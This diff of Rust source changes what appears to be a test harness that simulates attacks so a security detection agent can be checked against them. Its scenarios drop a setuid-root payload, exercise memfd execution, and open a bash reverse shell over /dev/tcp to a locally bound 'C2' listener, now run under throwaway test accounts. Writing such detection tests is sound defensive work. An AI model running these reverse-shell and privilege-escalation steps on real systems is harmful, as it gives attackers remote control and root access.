@@ -5,7 +5,7 @@ use std::{
     io::{Read, Write},
     net::TcpListener,
     os::unix::fs::PermissionsExt,
-    path::PathBuf,
+    path::{Path, PathBuf},
     process::{Command, Stdio},
     time::{Duration, Instant},
 };
@@ -36,22 +36,33 @@ pub const SETUID_DROP: Scenario = Scenario {
 };
 
 fn setuid_drop(stack: &mut Stack, cleanup: &mut Cleanup) -> anyhow::Result<()> {
-    let user = unique("s");
-    cleanup.user(&user)?;
+    let payload = drop_payload(cleanup, &actor(stack), "payload")?;
+    std::fs::set_permissions(&payload, std::fs::Permissions::from_mode(0o4755))?;
+    let mut cmd = as_test_user(cleanup, "s")?;
+    output_of(cmd.arg(&payload).arg("setuid-root")).map(drop)
+}
+
+/// Copies `source` into a new folder `/var/tmp/qscatk-*` as `name` (mode 0755); the folder is
+/// removed at the end.
+pub fn drop_payload(cleanup: &mut Cleanup, source: &Path, name: &str) -> anyhow::Result<PathBuf> {
     let dir = PathBuf::from(format!("/var/tmp/{}", unique("")));
     cleanup.path(&dir);
     std::fs::create_dir_all(&dir)?;
     std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))?;
-    let payload = dir.join("payload");
-    std::fs::copy(actor(stack), &payload).context("cannot drop the payload")?;
-    std::fs::set_permissions(&payload, std::fs::Permissions::from_mode(0o4755))?;
-    output_of(
-        Command::new("setpriv")
-            .args(["--reuid", &user, "--regid", &user, "--init-groups"])
-            .arg(&payload)
-            .arg("setuid-root"),
-    )?;
-    Ok(())
+    let payload = dir.join(name);
+    std::fs::copy(source, &payload)
+        .with_context(|| format!("cannot drop {} as {}", source.display(), payload.display()))?;
+    Ok(payload)
+}
+
+/// `setpriv` running the program given next as a new test account `qscatk*<suffix>`: the
+/// cortex never acts on root's processes, so behaviours whose playbooks kill run unprivileged.
+fn as_test_user(cleanup: &mut Cleanup, suffix: &str) -> anyhow::Result<Command> {
+    let user = unique(suffix);
+    cleanup.user(&user)?;
+    let mut cmd = Command::new("setpriv");
+    cmd.args(["--reuid", &user, "--regid", &user, "--init-groups"]);
+    Ok(cmd)
 }
 
 /// PTRACE_ATTACH to a `sleep` the scenario started.
@@ -88,8 +99,9 @@ pub const MEMFD_EXEC: Scenario = Scenario {
         confidence: (0.01, 1.0),
         action: Some("kill"),
     },
-    perform: |stack, _| {
-        output_of(Command::new(actor(stack)).args(["memfd-exec", "/bin/true"])).map(drop)
+    perform: |stack, cleanup| {
+        let mut cmd = as_test_user(cleanup, "m")?;
+        output_of(cmd.arg(actor(stack)).args(["memfd-exec", "/bin/true"])).map(drop)
     },
     patience: Duration::from_secs(20),
 };
@@ -133,7 +145,8 @@ fn reverse_shell(_: &mut Stack, cleanup: &mut Cleanup) -> anyhow::Result<()> {
     let listener = TcpListener::bind((C2_ADDRESS, 0))?;
     let port = listener.local_addr()?.port();
     listener.set_nonblocking(true)?;
-    let shell = Command::new("bash")
+    let shell = as_test_user(cleanup, "r")?
+        .arg("bash")
         .arg("-c")
         .arg(format!(
             "exec 3<>/dev/tcp/{C2_ADDRESS}/{port}; exec /bin/sh <&3 >&3 2>&3"
